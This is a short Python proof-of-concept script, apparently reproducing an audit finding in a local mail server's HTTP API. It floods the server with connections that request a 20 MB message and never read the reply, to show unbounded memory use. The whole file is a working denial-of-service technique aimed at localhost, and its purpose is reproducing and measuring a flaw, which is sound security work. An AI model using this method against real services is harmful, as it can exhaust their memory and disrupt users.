# F1: every unread HTTP response for a large message is held whole in memory; nothing caps HTTP connections.
# usage: SPID=<pid> SMTP=.. HTTP=.. python3 f1_http_unread_responses.py <connections> [json|raw|mailpit]
import sys, socket, time
from common import *
n=int(sys.argv[1]); kind=sys.argv[2] if len(sys.argv)>2 else 'json'
print(smtp_send(b'f1victim@example.com', b'Subject: big\r\n\r\n'+(b'lorem ipsum dolor sit amet consectetur adipiscing elit ok\r\n'*(20*1024*1024//60))))
path={'json':'/messages/f1victim:INBOX:1','raw':'/messages/f1victim:INBOX:1/raw','mailpit':'/api/v1/message/f1victim:INBOX:1'}[kind]
status('before'); socks=[]
for i in range(n):
    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096); s.connect(('127.0.0.1',HTTP))
    s.sendall(f'GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n'.encode()); socks.append(s)   # never read
for t in (2,4,8): time.sleep(t/2); status(f'{n} unread GET {path}')
for s in socks: s.close()
time.sleep(3); status('closed')
